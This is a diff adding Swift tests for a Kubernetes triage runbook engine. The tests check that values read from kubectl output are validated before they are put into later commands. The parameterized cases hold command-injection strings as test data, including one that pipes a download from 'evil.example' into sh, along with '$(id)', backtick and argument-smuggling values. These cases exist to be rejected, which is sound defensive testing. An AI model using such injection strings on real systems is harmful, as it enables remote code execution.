@@ -1,0 +1,92 @@
+import Foundation
+import Testing
+import TriageExecution
+import TriageModel
+import TriageRunbooks
+@testable import TriageEngine
+
+/// Values read from command output are checked like inputs before they enter a command: what a
+/// parser reads has the format its signature declares (a ServiceAccount name is DNS-1123), and
+/// anything else read from output must be one plain word.
+struct OutputValueTests {
+    static let runbook = """
+        id: sa
+        title: ServiceAccount
+        inputs:
+          pod: {format: dns-1123-subdomain}
+        start: read-pod
+        nodes:
+          read-pod:
+            title: Read the pod
+            run: [kubectl, get, pod, "{{pod}}", --output, json]
+            parser: pod-json
+            facts:
+              sa_line: '"serviceAccountName": "([^"]*)"'
+            next: read-sa
+          read-sa:
+            title: Read its ServiceAccount
+            run: [kubectl, get, serviceaccount, "{{service_account}}", --output, json]
+            next: by-pattern
+          by-pattern:
+            title: The same name, read by a pattern
+            run: [kubectl, get, serviceaccount, "{{sa_line}}"]
+            next: done
+          done:
+            title: Done
+            diagnosis: {cause: other, summary: done, fix: []}
+        """
+
+    /// The session after reading a pod whose ServiceAccount is called `name`.
+    func session(serviceAccount name: String) throws -> Session {
+        let runbook = try RunbookDecoder.decode(Self.runbook, file: "sa.yaml").get()
+        var session = try Session(runbook: runbook, inputs: ["pod": "web"])
+        let escaped = name.unicodeScalars.map { $0.value < 0x20 ? String(format: "\\u%04x", $0.value) : String($0) }.joined()
+        let pod = """
+            {"kind": "Pod", "metadata": {"name": "web", "namespace": "default"},
+             "spec": {"serviceAccountName": "\(escaped)", "containers": [{"name": "app", "image": "nginx:1.27"}]},
+             "status": {}}
+            """
+        let invocation = try session.pending()
+        session.record(CommandResult(stdout: pod), for: invocation.command!, parsers: .standard)
+        return session
+    }
+
+    @Test func aPlainNameEntersTheCommand() throws {
+        var session = try session(serviceAccount: "builder")
+        #expect(try session.pending().command?.arguments == ["kubectl", "get", "serviceaccount", "builder", "--output", "json"])
+        session.record(CommandResult(stdout: "{}"), for: try session.pending().command!, parsers: .standard)
+        #expect(try session.pending().command?.arguments == ["kubectl", "get", "serviceaccount", "builder"])
+    }
+
+    @Test(arguments: [
+        ("--kubeconfig=/tmp/evil", "starts with '-'"),
+        ("default;curl${IFS}evil.example|sh", "contains ';'"),
+        ("default $(id)", "contains ' '"),
+        ("Default", "contains upper-case letters"),
+        ("default\u{1B}]0;owned\u{07}", "contains a control character"),
+    ])
+    func aServiceAccountNameFromClusterOutputThatWouldInjectIsRefused(name: String, problem: String) throws {
+        let session = try session(serviceAccount: name)
+        let error = #expect(throws: SessionError.self) { try session.pending() }
+        #expect(error?.description.contains("would put service_account") == true)
+        #expect(error?.description.contains(problem) == true)
+    }
+
+    @Test(arguments: ["default;id", "a b", "x|sh", "`id`", "$(id)", "x'y", "x>y", "x&y"])
+    func aValueReadByAPatternMustBeOneWord(value: String) throws {
+        let runbook = try RunbookDecoder.decode(Self.runbook, file: "sa.yaml").get()
+        var byPattern = try Session(runbook: runbook, inputs: ["pod": "web"])
+        let pod = "\"serviceAccountName\": \"\(value)\""
+        byPattern.record(CommandResult(stdout: pod), for: try byPattern.pending().command!, parsers: ParserCatalog([]))
+        byPattern.decide()
+        let error = #expect(throws: SessionError.self) { try byPattern.pending() }
+        #expect(error?.description.contains("would put sa_line") == true)
+    }
+}
+
+extension Session.Pending {
+    /// The command, when the node waits for one.
+    var command: CommandInvocation? {
+        if case .command(let invocation) = self { invocation } else { nil }
+    }
+}
